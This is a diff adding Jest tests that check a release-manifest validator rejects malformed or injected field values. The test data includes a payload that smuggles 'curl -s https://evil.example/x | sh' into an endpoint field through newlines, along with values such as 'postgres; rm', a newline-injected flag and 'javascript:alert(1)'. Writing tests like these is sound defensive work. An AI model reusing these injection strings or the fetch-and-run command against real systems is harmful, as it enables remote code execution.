@@ -1,4 +1,6 @@
 import { describe, expect, it } from '@jest/globals';
+import { readFileSync } from 'node:fs';
+import fc from 'fast-check';
 import {
   MANIFEST_SCHEMA,
   ManifestError,
@@ -8,6 +10,7 @@ import {
   writeManifest,
   type ReleaseManifest,
 } from '../src/manifest.js';
+import { envValueProblem } from '../src/quoting.js';
 
 const valid: ReleaseManifest = {
   schema: MANIFEST_SCHEMA,
@@ -93,5 +96,89 @@ describe('release manifest', () => {
       expect.arrayContaining(['schema', 'release', 'image', 'flags']),
     );
     expect(schema.required).toContain('image');
+  });
+});
+
+describe('typed manifest fields (issue 16, finding 3)', () => {
+  const payload = 'db.internal.example\nIMMUT_ENV_END\ncurl -s https://evil.example/x | sh';
+
+  it('still reads every manifest immut wrote: the v1 fixture', () => {
+    const fixture: unknown = JSON.parse(
+      readFileSync(new URL('./fixtures/manifest-v1.json', import.meta.url), 'utf8'),
+    );
+    expect(validateManifest(fixture)).toEqual(fixture);
+  });
+
+  it('refuses an endpoint that is not a host name, naming the field and cutting the value', () => {
+    const attempt = () => validateManifest({ ...valid, data: { ...valid.data, endpoint: payload } });
+    expect(attempt).toThrow(/data\.endpoint: a host name \(RFC 1123/);
+    expect(attempt).toThrow(/was 'db\.internal\.example\\nIMMUT_ENV_END\\n/);
+    expect(attempt).not.toThrow(/evil\.example|\n/);
+  });
+
+  it.each([
+    ['data.instance', { data: { ...valid.data, instance: 'db--1' } }, /RDS DB identifier/],
+    ['data.engine', { data: { ...valid.data, engine: 'postgres; rm' } }, /RDS engine/],
+    ['data.from', { data: { ...valid.data, from: 'snap\nx' } }, /control character/],
+    ['data.changelog', { data: { ...valid.data, changelog: 'a\u2028b' } }, /line separator/],
+    ['app.version', { app: { version: '1.2\t3' } }, /control character \(U\+0009/],
+    ['app.version', { app: { version: 'v'.repeat(1025) } }, /more than 1024/],
+    ['image.region', { image: { ...valid.image, region: 'us-east-1\n' } }, /AWS region/],
+    ['image.id', { image: { ...valid.image, id: 'ami-123' } }, /AMI id/],
+    ['source.repository', { source: { ...valid.source, repository: 'a/b c' } }, /repository/],
+    ['source.sha', { source: { ...valid.source, sha: 'HEAD~1' } }, /commit sha/],
+    ['source.run', { source: { ...valid.source, run: 'javascript:alert(1)' } }, /https URL/],
+    ['flags.LOG_LEVEL', { flags: { LOG_LEVEL: 'info\nINJECTED=1' } }, /control character.*value not shown/],
+  ])('refuses a bad %s', (field, patch, why) => {
+    const attempt = () => validateManifest({ ...valid, ...patch });
+    expect(attempt).toThrow(new RegExp(`${field.replace('.', '\\.')}: .*`));
+    expect(attempt).toThrow(why);
+    expect(attempt).not.toThrow(/INJECTED/);
+  });
+
+  it('accepts the host names RDS and tests use, with or without a final dot', () => {
+    for (const endpoint of [
+      '127.0.0.1',
+      'x.abc.us-east-1.rds.amazonaws.com',
+      'db.example.test.',
+      'a'.repeat(63),
+    ]) {
+      expect(validateManifest({ ...valid, data: { ...valid.data, endpoint } }).data?.endpoint).toBe(endpoint);
+    }
+    expect(() => validateManifest({ ...valid, data: { ...valid.data, endpoint: 'a'.repeat(64) } })).toThrow(
+      /data\.endpoint/,
+    );
+    const long = Array.from({ length: 64 }, () => 'abc').join('.');
+    expect(() => validateManifest({ ...valid, data: { ...valid.data, endpoint: long } })).toThrow(
+      /data\.endpoint/,
+    );
+  });
+
+  it('property: any endpoint, version or flag is refused naming its field, or is safe for the environment file', () => {
+    const anything = fc.string({ unit: 'binary', maxLength: 80 });
+    fc.assert(
+      fc.property(anything, anything, anything, (endpoint, version, flag) => {
+        const manifest = {
+          ...valid,
+          data: { ...valid.data, endpoint },
+          app: { version },
+          flags: { F: flag },
+        };
+        let ok: ReleaseManifest;
+        try {
+          ok = validateManifest(manifest);
+        } catch (error) {
+          expect(error).toBeInstanceOf(ManifestError);
+          const message = (error as Error).message;
+          expect(message).toMatch(/data\.endpoint|app\.version|flags\.F/);
+          expect(envValueProblem(message)).toBeUndefined();
+          expect(message.length).toBeLessThan(1200);
+          return;
+        }
+        for (const v of [ok.data?.endpoint ?? '', ok.app.version, ok.flags['F'] ?? ''])
+          expect(envValueProblem(v)).toBeUndefined();
+      }),
+      { numRuns: 300 },
+    );
   });
 });
